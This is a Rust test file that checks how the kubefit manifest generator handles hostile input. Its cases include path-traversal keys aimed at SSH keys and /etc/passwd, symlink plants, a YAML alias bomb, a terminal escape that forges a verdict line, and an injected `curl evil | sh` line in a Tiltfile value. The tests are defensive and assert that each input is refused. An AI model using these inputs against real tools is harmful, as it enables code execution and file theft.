//! Hostile and careless input: one test per defect found by attacking kubefit (issue 17).
//! Each input failed before (data loss, an escape, a crash, a hang, a forgery) and is refused
//! or handled now.

mod common;

use std::path::Path;

use kubefit::{
    ConfigMap, Container, Cpu, Deployment, EmitError, EmitOptions, HorizontalPodAutoscaler, Memory,
    OUTPUT_MARKER, PersistentVolumeClaim, Platform, Resources, Secret, SecretValue, Stack,
    StackSpec, StatefulSet, Storage, Verdict, Volume,
};

fn small_stack() -> Stack {
    Stack::new("shop").with(ConfigMap::new("conf").entry("a", "1"))
}

fn unsafe_reason(e: EmitError) -> String {
    match e {
        EmitError::UnsafeOutput { reason, .. } => reason,
        other => panic!("expected UnsafeOutput, got {other}"),
    }
}

/// Every file under `dir`, relative, sorted (symbolic links not followed).
fn listing(dir: &Path) -> Vec<String> {
    fn walk(root: &Path, dir: &Path, acc: &mut Vec<String>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let e = e.unwrap();
            let p = e.path();
            if e.file_type().unwrap().is_dir() {
                walk(root, &p, acc);
            } else {
                acc.push(p.strip_prefix(root).unwrap().to_string_lossy().into_owned());
            }
        }
    }
    let mut acc = Vec::new();
    walk(dir, dir, &mut acc);
    acc.sort();
    acc
}

#[test]
fn a_project_directory_is_never_replaced() {
    let project = tempfile::tempdir().unwrap();
    std::fs::create_dir(project.path().join(".git")).unwrap();
    std::fs::write(project.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(project.path().join("stack.yaml"), "namespace: shop\n").unwrap();
    std::fs::write(project.path().join(".env"), "PW=x\n").unwrap();
    let before = listing(project.path());
    let m = small_stack().emit(&EmitOptions::new()).unwrap();
    let reason = unsafe_reason(m.write_dir(project.path()).unwrap_err());
    assert!(reason.contains("kubefit did not write it"), "{reason}");
    // `--out .` from inside the project: the same directory, by another name.
    let dot = project.path().join(".");
    assert!(m.write_dir(&dot).is_err());
    assert_eq!(listing(project.path()), before, "nothing was touched");
}

#[test]
fn a_file_is_never_turned_into_a_directory() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("notes.txt");
    std::fs::write(&file, "mine\n").unwrap();
    let m = small_stack().emit(&EmitOptions::new()).unwrap();
    let reason = unsafe_reason(m.write_dir(&file).unwrap_err());
    assert!(reason.contains("is a file"), "{reason}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "mine\n");
    assert_eq!(
        listing(dir.path()),
        ["notes.txt"],
        "no hidden backup either"
    );
}

#[test]
fn a_symlinked_output_path_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("elsewhere");
    std::fs::create_dir(&target).unwrap();
    std::fs::write(target.join("precious"), "x").unwrap();
    let link = dir.path().join("out");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let m = small_stack().emit(&EmitOptions::new()).unwrap();
    assert!(unsafe_reason(m.write_dir(&link).unwrap_err()).contains("symbolic link"));
    assert_eq!(listing(&target), ["precious"]);
}

#[test]
fn kubefit_replaces_its_own_output_and_nothing_it_did_not_write() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let m = small_stack().emit(&EmitOptions::new()).unwrap();
    m.write_dir(&out).unwrap();
    let marker = std::fs::read_to_string(out.join(OUTPUT_MARKER)).unwrap();
    assert!(marker.lines().any(|l| l == "00-namespace-shop.yaml"));
    m.write_dir(&out).unwrap(); // its own output: replaced
    // A file the user added, a directory, a listed file swapped for a symlink: refused.
    std::fs::write(out.join("notes.md"), "mine").unwrap();
    let reason = unsafe_reason(m.write_dir(&out).unwrap_err());
    assert!(reason.contains("not in .kubefit-output"), "{reason}");
    assert!(out.join("notes.md").exists());
    std::fs::remove_file(out.join("notes.md")).unwrap();
    let listed = out.join("00-namespace-shop.yaml");
    std::fs::remove_file(&listed).unwrap();
    std::os::unix::fs::symlink(dir.path().join("victim"), &listed).unwrap();
    assert!(
        m.write_dir(&out).is_err(),
        "a planted symlink is not kubefit's file"
    );
    assert_eq!(
        listing(dir.path())
            .into_iter()
            .filter(|p| !p.starts_with("out/"))
            .count(),
        0,
        "nothing written beside out/"
    );
}

#[test]
fn compose_names_and_keys_cannot_leave_the_output_directory() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    std::fs::write(dir.path().join("victim"), "untouched").unwrap();
    for key in ["../victim", "../../.ssh/id_rsa", "/etc/passwd", ".."] {
        let conf = ConfigMap::new("conf").entry(key, "owned");
        let app = Deployment::new(
            "app",
            Container::new("app", "nginx:1.27").mount_read_only("conf", "/etc/app"),
        )
        .volume(Volume::config_map("conf", &conf));
        let stack = Stack::new("shop").with(conf).with(app);
        let err = kubefit::Compose::new(&stack)
            .and_then(|c| c.write_dir(&out))
            .unwrap_err();
        assert!(
            matches!(&err, EmitError::Check(r) if r.with_id("invalid-key").count() == 1),
            "{key}: {err}"
        );
        let secret = Secret::new("db").entry(key, SecretValue::new("pw"));
        let app = Deployment::new(
            "app",
            Container::new("app", "nginx:1.27").mount_read_only("db", "/run/db"),
        )
        .volume(Volume::secret("db", &secret));
        let stack = Stack::new("shop").with(secret).with(app);
        assert!(
            kubefit::Compose::new(&stack).map(|c| c.files()).is_err(),
            "{key}: secret file paths"
        );
    }
    assert!(!out.exists());
    assert_eq!(
        std::fs::read_to_string(dir.path().join("victim")).unwrap(),
        "untouched"
    );
}

#[test]
fn compose_output_is_atomic_and_contained() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let conf = ConfigMap::new("conf").entry("app.toml", "x = 1\n");
    let app = Deployment::new(
        "app",
        Container::new("app", "nginx:1.27").mount_read_only("conf", "/etc/app"),
    )
    .volume(Volume::config_map("conf", &conf));
    let stack = Stack::new("shop").with(conf).with(app);
    kubefit::Compose::new(&stack)
        .and_then(|c| c.write_dir(&out))
        .unwrap();
    assert_eq!(
        listing(&out),
        [OUTPUT_MARKER, "compose.yaml", "config/conf/app.toml"]
    );
    // A planted symlink where a config file goes makes the directory foreign: refused,
    // and its target is not written.
    std::fs::remove_file(out.join("config/conf/app.toml")).unwrap();
    std::fs::write(dir.path().join("victim"), "untouched").unwrap();
    std::os::unix::fs::symlink(dir.path().join("victim"), out.join("config/conf/app.toml"))
        .unwrap();
    assert!(
        kubefit::Compose::new(&stack)
            .and_then(|c| c.write_dir(&out))
            .is_err()
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("victim")).unwrap(),
        "untouched"
    );
}

#[test]
fn compose_names_never_collide() {
    // `a`+`b-c` and `a-b`+`c` were both `a-b-c`.
    let a = ConfigMap::new("a").entry("b-c", "1");
    let ab = ConfigMap::new("a-b").entry("c", "2");
    let app = Deployment::new(
        "app",
        Container::new("app", "nginx:1.27")
            .mount_read_only("a", "/etc/a")
            .mount_read_only("ab", "/etc/ab"),
    )
    .volume(Volume::config_map("a", &a))
    .volume(Volume::config_map("ab", &ab));
    // A claim `db-data` and the claim template `data` of StatefulSet `db` were both `db-data`.
    let claim = PersistentVolumeClaim::new("db-data", Storage::gibibytes(1));
    let web = Deployment::new(
        "web",
        Container::new("web", "nginx:1.27").mount("files", "/srv"),
    )
    .volume(Volume::persistent_volume_claim("files", &claim));
    let db = StatefulSet::new(
        "db",
        Container::new("db", "postgres:17").mount("data", "/var/lib"),
    )
    .volume_claim(PersistentVolumeClaim::new("data", Storage::gibibytes(1)));
    let stack = Stack::new("shop")
        .with(a)
        .with(ab)
        .with(app)
        .with(claim)
        .with(web)
        .with(db.headless_service())
        .with(db);
    let compose = kubefit::Compose::new(&stack)
        .map(|c| c.to_yaml().to_owned())
        .unwrap();
    let doc: serde_json::Value = serde_saphyr::from_str(&compose).unwrap();
    let configs = doc["configs"].as_object().unwrap();
    assert_eq!(configs.len(), 2, "{compose}");
    let volumes = doc["volumes"].as_object().unwrap();
    assert_eq!(volumes.len(), 2, "{compose}");
    assert!(volumes.contains_key("db-data") && volumes.contains_key("db_data"));
}

#[test]
fn concurrent_writers_in_one_process_never_leave_a_partial_directory() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let stacks: Vec<Stack> = (0..8)
        .map(|i| {
            (0..=i).fold(Stack::new("shop"), |s, j| {
                s.with(ConfigMap::new(format!("c{j}")).entry("k", "v"))
            })
        })
        .collect();
    let manifests: Vec<_> = stacks
        .iter()
        .map(|s| s.emit(&EmitOptions::new()).unwrap())
        .collect();
    std::thread::scope(|scope| {
        for m in &manifests {
            let out = &out;
            scope.spawn(move || {
                let _ = m.write_dir(out);
            });
        }
    });
    let got = listing(&out);
    let complete = manifests.iter().any(|m| {
        let mut want: Vec<String> = m.file_names();
        want.push(OUTPUT_MARKER.to_owned());
        want.sort();
        want == got
    });
    assert!(complete, "a partial directory: {got:?}");
    // No staging or backup directory is left behind.
    let siblings: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(siblings, ["out"]);
}

#[test]
fn leftovers_of_a_killed_run_are_cleaned_up() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    // A process id that is not running (above the kernel's pid_max).
    for stale in [
        ".out.kubefit-new-4194999-0",
        ".out.kubefit-old-4194999-0",
        ".out.kubefit-new-4194998",
    ] {
        std::fs::create_dir(dir.path().join(stale)).unwrap();
        std::fs::write(dir.path().join(stale).join("big"), vec![0u8; 1024]).unwrap();
    }
    // The backup of a run killed between its two renames is the previous output: put back,
    // then replaced as kubefit's own.
    std::fs::write(
        dir.path()
            .join(".out.kubefit-old-4194999-0")
            .join(OUTPUT_MARKER),
        "# written by kubefit\nbig\n",
    )
    .unwrap();
    let m = small_stack().emit(&EmitOptions::new()).unwrap();
    m.write_dir(&out).unwrap();
    let siblings: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(siblings, ["out"]);
}

#[test]
fn absurd_counts_are_answered_without_simulating_them() {
    let big = Deployment::new(
        "web",
        Container::new("web", "nginx:1.27")
            .resources(Resources::new().requests(Cpu::millis(1), Memory::mebibytes(1))),
    )
    .replicas(i32::MAX);
    let fit = Stack::new("shop")
        .with(big.clone())
        .fit(&Platform::oci_always_free());
    assert_eq!(fit.verdict(), Verdict::DoesNotFit);
    let d = &fit.diagnostics()[0];
    assert_eq!(d.id, "beyond-cluster-limits");
    // The replicas, their 25% surge (rounded up) and the platform's add-ons, counted, not
    // simulated: 2147483647 + 536870912 + 4.
    assert!(d.message.starts_with("2684354563 "), "{}", d.message);
    assert!(d.message.contains("pods at peak"), "{}", d.message);

    let hpa = HorizontalPodAutoscaler::new(&big.clone().replicas(1), 1, i32::MAX);
    let fit = Stack::new("shop")
        .with(big.replicas(1))
        .with(hpa)
        .fit(&Platform::oci_always_free());
    assert!(
        fit.diagnostics()
            .iter()
            .any(|d| d.id == "beyond-cluster-limits")
    );

    let nodes = Platform::kubeadm(u32::MAX, Cpu::cores(2), Memory::gibibytes(8));
    let fit = Stack::new("shop").fit(&nodes);
    assert_eq!(fit.verdict(), Verdict::DoesNotFit);
    assert!(fit.diagnostics()[0].message.contains("nodes is more than"));
}

#[test]
fn the_cli_answers_a_218_byte_spec_with_int32_replicas() {
    let dir = tempfile::tempdir().unwrap();
    let spec = "namespace: shop\ndeployments:\n  - name: web\n    replicas: 2147483647\n    pod:\n      containers:\n        - name: web\n          image: nginx:1.27\n          resources: {requests: {cpu: 1m, memory: 1Mi}}\nplatform: oci-always-free\n";
    std::fs::write(dir.path().join("s.yaml"), spec).unwrap();
    let out = common::run_example(
        "kubefit",
        ["check", &dir.path().join("s.yaml").to_string_lossy()],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("error[beyond-cluster-limits]"), "{stdout}");
}

#[test]
fn ten_thousand_issues_are_located_in_one_pass() {
    let mut spec = String::from("namespace: shop\ndeployments:\n");
    for i in 0..10_000 {
        spec.push_str(&format!("  - {{name: d{i}, pod: {{containers: []}}}}\n"));
    }
    let parsed = StackSpec::from_yaml(&spec, "s.yaml").unwrap();
    let err = parsed.to_stack(&kubefit::DotEnv::default()).unwrap_err();
    assert_eq!(err.issues().len(), 10_000);
    let last = &err.issues()[9_999];
    assert_eq!(last.path, "deployments[9999].pod.containers");
    assert_eq!(last.line, Some(10_002));
}

#[test]
fn a_megabyte_quantity_parses_in_linear_time() {
    use std::str::FromStr;
    let tiny = format!("0.{}1", "0".repeat(1 << 20));
    let q = kubefit::Quantity::from_str(&tiny).unwrap();
    assert_eq!(q.nanos(), 1, "rounded up to one nano");
    let huge = format!("1{}", "0".repeat(1 << 20));
    assert!(kubefit::Quantity::from_str(&huge).is_err());
    let exact = format!("{}1.5{}", "0".repeat(1 << 20), "0".repeat(1 << 20));
    assert_eq!(
        kubefit::Quantity::from_str(&exact).unwrap(),
        kubefit::Quantity::from_str("1.5").unwrap()
    );
}

#[test]
fn an_endless_file_is_refused_after_the_limit() {
    let err = StackSpec::from_file("/dev/zero").unwrap_err();
    assert!(err.to_string().contains("larger than"), "{err}");
    let err = kubefit::DotEnv::load("/dev/zero").unwrap_err();
    assert!(err.to_string().contains("larger than"), "{err}");
}

#[test]
fn a_253_character_name_emits() {
    let name = format!(
        "{}.{}.{}.{}",
        "a".repeat(63),
        "b".repeat(63),
        "c".repeat(63),
        "d".repeat(61)
    );
    assert_eq!(name.len(), 253);
    let other = format!("{}x", &name[..252]);
    let stack = Stack::new("shop")
        .with(ConfigMap::new(name.as_str()).entry("k", "v"))
        .with(ConfigMap::new(other.as_str()).entry("k", "v"));
    assert!(!stack.check().has_errors(), "{}", stack.check());
    let m = stack.emit(&EmitOptions::new()).unwrap();
    let names = m.file_names();
    assert!(names.iter().all(|n| n.len() <= 255), "{names:?}");
    assert_ne!(names[1], names[2], "distinct long names stay distinct");
    let dir = tempfile::tempdir().unwrap();
    m.write_dir(dir.path().join("out")).unwrap();
    kubefit::KustomizeTree::new(&stack, &[], &EmitOptions::new())
        .unwrap()
        .write_dir(dir.path().join("kz"))
        .unwrap();
    kubefit::HelmChart::new(&stack, &EmitOptions::new())
        .unwrap()
        .write_dir(dir.path().join("chart"))
        .unwrap();
}

#[test]
fn a_pool_named_n_is_a_string() {
    let spec = "namespace: shop\nplatform:\n  name: mine\n  source: me\n  checked: 2026-12\n  pools:\n    - {name: n, count: 1, cpu: '2', memory: 4Gi}\n";
    let parsed = StackSpec::from_yaml(spec, "s.yaml").unwrap();
    let p = parsed.platform().unwrap().unwrap();
    assert_eq!(p.pools()[0].name(), "n");
    // A real mistake is reported as itself, not as "did not match any variant".
    let err = StackSpec::from_yaml(&spec.replace("  source: me\n", ""), "s.yaml").unwrap_err();
    assert_eq!(err.issues()[0].message, "missing field `source`");
}

#[test]
fn parser_limits_are_reported_in_words() {
    let mut bomb = String::from(
        "namespace: shop\nmetadata:\n  labels:\n    a: &a [x, x, x, x, x, x, x, x, x, x]\n",
    );
    let mut prev = 'a';
    for c in 'b'..='k' {
        bomb.push_str(&format!(
            "    {c}: &{c} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]\n"
        ));
        prev = c;
    }
    let err = StackSpec::from_yaml(&bomb, "s.yaml").unwrap_err();
    let text = err.to_string();
    assert!(!text.contains('{') && !text.contains("Budget"), "{text}");
}

#[test]
fn control_characters_are_escaped_in_reports() {
    let spec = "namespace: shop\nplatform:\n  name: \"x\\e[2J\\rverdict: FITS\"\n  source: me\n  checked: 2026-12\n  pools:\n    - {name: n, count: 1, cpu: '2', memory: 4Gi}\n";
    let parsed = StackSpec::from_yaml(spec, "s.yaml").unwrap();
    let stack = parsed.to_stack(&kubefit::DotEnv::default()).unwrap();
    let report = stack.check_on(&parsed.platform().unwrap().unwrap());
    let text = report.to_string();
    assert!(
        !text.chars().any(|c| c.is_control() && c != '\n'),
        "{text:?}"
    );
    assert!(text.contains("\\u{1b}[2J\\u{d}verdict"), "{text}");
    let err = StackSpec::from_yaml("namespace: [\u{1b}[2J]\n", "s\u{1b}.yaml").unwrap_err();
    assert!(!err.to_string().contains('\u{1b}'));
}

#[test]
fn a_tiltfile_env_file_cannot_inject_code() {
    let t = kubefit::Tiltfile::new(&Stack::new("shop"), "k8s")
        .unwrap()
        .env_file(".env\nlocal('curl evil | sh')\n#");
    let text = t.to_string();
    assert!(!text.lines().any(|l| l.starts_with("local(")), "{text}");
}

#[test]
fn credentials_in_env_values_are_linted_whatever_the_name() {
    let app = |v: &str| {
        Stack::new("shop").with(Deployment::new(
            "app",
            Container::new("app", "nginx:1.27").env("DATABASE_URL", v),
        ))
    };
    let hits = |v: &str| app(v).check().with_id("literal-secret-in-env").count();
    assert_eq!(hits("postgres://app:hunter2@db:5432/app"), 1);
    assert_eq!(hits("postgres://app:$(DB_PASSWORD)@db:5432/app"), 0);
    assert_eq!(hits("postgres://app@db:5432/app"), 0);
    assert_eq!(hits("https://example.com/a@b"), 0);
    assert_eq!(hits("-----BEGIN OPENSSH PRIVATE KEY-----\nabc"), 1);
}

#[test]
fn helm_template_holes_cannot_be_forged_by_data() {
    common::needs_external_tools!();
    let app = Deployment::new(
        "api",
        Container::new("api", "nginx:1.27")
            .env("A", "KUBEFIT-HELM-HOLE-0")
            .env("B", "KUBEFIT1-HELM-HOLE-1")
            .resources(Resources::new().requests(Cpu::millis(100), Memory::mebibytes(64))),
    );
    let stack = Stack::new("shop").with(app);
    let chart = kubefit::HelmChart::new(&stack, &EmitOptions::new()).unwrap();
    let template = &chart
        .files()
        .iter()
        .find(|(p, _)| p.ends_with("deployment-api.yaml"))
        .unwrap()
        .1;
    assert!(
        template.contains("value: KUBEFIT-HELM-HOLE-0"),
        "{template}"
    );
    let dir = tempfile::tempdir().unwrap();
    common::helm_round_trip(&stack, &EmitOptions::new(), &dir.path().join("chart"));
}

mod no_escape {
    use super::*;
    use proptest::prelude::*;

    /// Names kubefit accepts (DNS subdomains) and ConfigMap/Secret keys in the whole key
    /// alphabet, including the `.`/`..` shapes a path would treat specially.
    fn name() -> impl Strategy<Value = String> {
        "[a-z0-9]([-a-z0-9.]{0,20}[a-z0-9])?"
    }
    fn key() -> impl Strategy<Value = String> {
        prop_oneof![
            "[-._a-zA-Z0-9]{1,24}",
            Just("..".to_owned()),
            Just(".".to_owned()),
            Just("..a".to_owned()),
            Just("../x".to_owned()),
            Just("a/b".to_owned()),
        ]
    }

    fn stack(entries: &[(String, String)], secrets: &[(String, String)]) -> Stack {
        let mut s = Stack::new("shop");
        let mut c = Container::new("app", "nginx:1.27");
        let mut app_volumes = Vec::new();
        for (i, (n, k)) in entries.iter().enumerate() {
            let cm = ConfigMap::new(n.as_str()).entry(k.as_str(), "v");
            c = c.mount_read_only(format!("c{i}"), format!("/etc/c{i}"));
            app_volumes.push(Volume::config_map(format!("c{i}"), &cm));
            s = s.with(cm);
        }
        for (i, (n, k)) in secrets.iter().enumerate() {
            let sec = Secret::new(n.as_str()).entry(k.as_str(), SecretValue::new("pw"));
            c = c.mount_read_only(format!("s{i}"), format!("/run/s{i}"));
            app_volumes.push(Volume::secret(format!("s{i}"), &sec));
            s = s.with(sec);
        }
        let app = app_volumes
            .into_iter()
            .fold(Deployment::new("app", c), Deployment::volume);
        s.with(app)
    }

    fn contained(dir: &Path) {
        // Everything the writer made is inside `out`; nothing else appeared beside it.
        let siblings: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert!(
            siblings.iter().all(|s| s == "out"),
            "written beside the output: {siblings:?}"
        );
    }

    type Writer<'a> = dyn Fn(&Path) -> Result<(), EmitError> + 'a;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]
        #[test]
        fn no_output_format_writes_outside_its_directory(
            entries in proptest::collection::vec((name(), key()), 0..4),
            secrets in proptest::collection::vec((name(), key()), 0..3),
        ) {
            let s = stack(&entries, &secrets);
            let opts = EmitOptions::new().plaintext_secrets(true);
            let writes: Vec<Box<Writer>> = vec![
                Box::new(|d| s.emit(&opts)?.write_dir(d)),
                Box::new(|d| s.emit(&opts)?.write_json_dir(d)),
                Box::new(|d| kubefit::KustomizeTree::new(&s, &[], &opts)?.write_dir(d)),
                Box::new(|d| kubefit::HelmChart::new(&s, &opts)?.write_dir(d)),
                Box::new(|d| kubefit::Compose::new(&s).and_then(|c| c.write_dir(d))),
            ];
            for write in &writes {
                let dir = tempfile::tempdir().unwrap();
                let out = dir.path().join("out");
                if write(&out).is_ok() {
                    for f in listing(&out) {
                        prop_assert!(!f.split('/').any(|p| p == ".." || p == "."), "{f}");
                    }
                }
                contained(dir.path());
            }
        }
    }
}
